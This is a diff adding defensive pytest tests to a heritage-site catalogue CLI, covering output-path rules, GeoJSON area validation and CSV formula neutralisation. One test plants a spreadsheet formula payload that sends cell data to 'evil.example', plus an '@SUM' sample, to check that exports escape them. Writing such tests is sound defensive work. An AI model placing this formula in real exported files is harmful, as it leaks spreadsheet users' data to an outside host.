@@ -7,6 +7,8 @@ outputs aimed into the catalogue, MBTiles paths that read as URLs.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import os
 import sqlite3
@@ -16,9 +18,12 @@ from typing import Any
 import pytest
 
 from heritage.cli.app import ExitCode
-from heritage.codec import loads
+from heritage.codec import decode, loads
+from heritage.errors import InvalidInput
+from heritage.layout import output_path
+from heritage.models import ConditionReport, Site
 from heritage.store import Catalogue
-from tests.conftest import Invoke, snapshot
+from tests.conftest import Invoke, report_doc, site_doc, snapshot
 
 REPORT = ("reports", "st-sargis", "r-1.json")
 
@@ -101,6 +106,28 @@ def test_a_deeply_nested_areas_file_is_one_line_for_map(invoke: Invoke, catalogu
     one_line_error(result, "areas.geojson", "nested too deeply")
 
 
+NOT_UTF8 = os.fsdecode(b"out-\xff")
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        ["mission", "export", "--name", "M", "--sites", "st-sargis", "--no-pdf", "-o", "{out}"],
+        ["map", "-o", "{out}.html"],
+        ["dossier", "st-sargis", "-o", "{out}"],
+        ["manifest", "-o", "{out}.json"],
+        ["history", "st-sargis", "--chart", "{out}.svg"],
+    ],
+)
+def test_an_output_name_that_is_not_utf8_is_refused(
+    invoke: Invoke, catalogue: Catalogue, tmp_path: Path, command: list[str]
+) -> None:
+    out = str(tmp_path / NOT_UTF8)
+    result = invoke(*[part.replace("{out}", out) for part in command], catalogue=catalogue)
+    one_line_error(result, "not a UTF-8 file name")
+    assert os.listdir(tmp_path) == ["cat"]
+
+
 def test_a_mission_name_that_is_not_utf8_is_a_usage_error(invoke: Invoke, catalogue: Catalogue, tmp_path: Path) -> None:
     name = os.fsdecode(b"Shusha \xff")
     out = tmp_path / "p"
@@ -109,6 +136,37 @@ def test_a_mission_name_that_is_not_utf8_is_a_usage_error(invoke: Invoke, catalo
     )
     assert result.exit_code == ExitCode.USAGE and "Traceback" not in result.output, result.output
     assert not out.exists()
+
+
+@pytest.mark.parametrize(
+    ("command", "target"),
+    [
+        (["history", "st-sargis", "--chart", "{root}/reports/st-sargis/chart.svg"], "reports/st-sargis/chart.svg"),
+        (["history", "st-sargis", "--chart", "{root}/.heritage/chart.svg"], ".heritage/chart.svg"),
+        (["map", "-o", "{root}/.heritage/map.html"], ".heritage/map.html"),
+        (["dossier", "st-sargis", "-o", "{root}/.heritage/d"], ".heritage/d"),
+        (["manifest", "-o", "{root}/.heritage/manifest.json"], ".heritage/manifest.json"),
+        (["mission", "export", "--name", "M", "--sites", "st-sargis", "-o", "{root}/.heritage/p"], ".heritage/p"),
+    ],
+)
+def test_no_output_lands_in_record_folders_or_the_index(
+    invoke: Invoke, catalogue: Catalogue, command: list[str], target: str
+) -> None:
+    root = str(catalogue.root)
+    invoke("list", catalogue=catalogue)  # the index exists, as it does after any command
+    result = invoke(*[part.replace("{root}", root) for part in command], catalogue=catalogue)
+    one_line_error(result, "part of the catalogue itself")
+    assert not (catalogue.root / target).exists()
+
+
+def test_output_path_is_the_one_rule(catalogue: Catalogue, tmp_path: Path) -> None:
+    root = catalogue.root
+    for inside in (root / "sites" / "x.html", root / ".heritage", root / "catalogue.json", root / "areas.geojson"):
+        with pytest.raises(InvalidInput, match="part of the catalogue"):
+            output_path(root, inside)
+    with pytest.raises(InvalidInput, match="UTF-8"):
+        output_path(root, tmp_path / NOT_UTF8)
+    assert output_path(root, root / "maps" / "index.html") == root / "maps" / "index.html"
 
 
 def test_a_duplicated_csv_column_is_refused_by_name(invoke: Invoke, catalogue: Catalogue, tmp_path: Path) -> None:
@@ -154,6 +212,76 @@ def test_an_evidence_file_name_that_is_not_utf8_is_kept_readable(
     assert result.exit_code == 0, result.output
     record = next(catalogue.root.glob("evidence/*/*.json"))
     assert json.loads(record.read_text(encoding="utf-8"))["name"] == "ph\ufffdoto.jpg"
+
+
+@pytest.mark.parametrize(
+    ("area", "why"),
+    [
+        ({"type": "FeatureCollection", "features": []}, "holds no polygon"),
+        ({"type": "Polygon", "coordinates": []}, "it is empty"),
+        ({"type": "Point", "coordinates": [46.93, 39.57]}, "shape 1 is Point"),
+        ({"type": "Feature", "geometry": None}, "shape 1 is not a geometry"),
+        ([], "no GeoJSON object"),
+        ({"type": "Polygon", "coordinates": [[[0, 0], [1, 1], [1, 0], [0, 1], [0, 0]]]}, "Self-intersection"),
+    ],
+)
+def test_an_area_that_encloses_nothing_selects_nothing(
+    invoke: Invoke, catalogue: Catalogue, tmp_path: Path, area: Any, why: str
+) -> None:
+    path = tmp_path / "area.geojson"
+    path.write_text(json.dumps(area), encoding="utf-8")
+    mission = ["mission", "export", "--name", "M", "--area", str(path), "--no-pdf", "-o", str(tmp_path / "p")]
+    one_line_error(invoke(*mission, catalogue=catalogue), "area.geojson", why)
+    assert not (tmp_path / "p").exists()
+    changes = ["changes", "--from", "2020-01-01", "--to", "2025-01-01", "--area", str(path)]
+    one_line_error(invoke(*changes, catalogue=catalogue), "area.geojson", why)
+
+
+def test_select_sites_treats_an_empty_area_as_no_site(catalogue: Catalogue) -> None:
+    from datetime import date
+
+    from heritage.mission import Selection, select_sites
+
+    assert select_sites(catalogue, Selection(area=[]), date(2026, 1, 1)) == []
+    assert [s.id for s in select_sites(catalogue, Selection(), date(2026, 1, 1))] == ["st-sargis"]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def test_changes_csv_cells_never_run_as_formulas(invoke: Invoke, catalogue: Catalogue) -> None:
+    names = [{"lang": "en", "text": FORMULA}, {"lang": "hy", "text": "@SUM(1)"}]
+    catalogue.add_site(decode(Site, json.dumps(site_doc("evil", names=names)).encode()))
+    for report_id, observed, condition in (("r-e1", "2021-01-01", "intact"), ("r-e2", "2022-01-01", "destroyed")):
+        doc = report_doc(report_id, site="evil", observed=observed, condition=condition)
+        catalogue.add_report(decode(ConditionReport, json.dumps(doc).encode()))
+    result = invoke("changes", "--from", "2021-06-01", "--to", "2025-01-01", "--csv", catalogue=catalogue)
+    assert result.exit_code == 0, result.output
+    rows = {row["site"]: row for row in csv.DictReader(io.StringIO(result.output))}
+    assert rows["evil"]["name"] == "'" + FORMULA
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values())
+
+
+def test_the_one_csv_writer_keeps_numbers_and_neutralises_text(tmp_path: Path) -> None:
+    from heritage.csvfile import csv_text, write_csv
+
+    rows = [["-3.5", -3.5, "+7", "\tx", "\rx", "@a", "plain", None, float("nan"), 0]]
+    assert csv_text(["a", "b", "c", "d", "e", "f", "g", "h", "i", "j"], rows).split("\r\n")[1] == (
+        "'-3.5,-3.5,'+7,'\tx,\"'\rx\",'@a,plain,,,0"
+    )
+    write_csv(tmp_path / "t.csv", ["name"], [["Կանաչ Ժամ"]])
+    data = (tmp_path / "t.csv").read_bytes()
+    assert data.startswith(b"\xef\xbb\xbf") and data.decode("utf-8-sig") == "name\r\nԿանաչ Ժամ\r\n"
+
+
+def test_the_package_csv_keeps_coordinates_as_numbers(tmp_path: Path) -> None:
+    from heritage.frame import write_layers
+
+    row = {"id": "x", "name": "-3.5", "names": "+1 @sum", "lon": -3.5, "lat": 39.0}
+    write_layers([row], tmp_path / "data")
+    with (tmp_path / "data" / "sites.csv").open(encoding="utf-8-sig", newline="") as handle:
+        (read,) = list(csv.DictReader(handle))
+    assert read["name"] == "'-3.5" and read["names"] == "'+1 @sum" and read["lon"] == "-3.5"
 
 
 @pytest.mark.parametrize("name", ["a#b.mbtiles", "a%20b.mbtiles", "a?mode=rw.mbtiles", "a b.mbtiles", "Շուշի.mbtiles"])
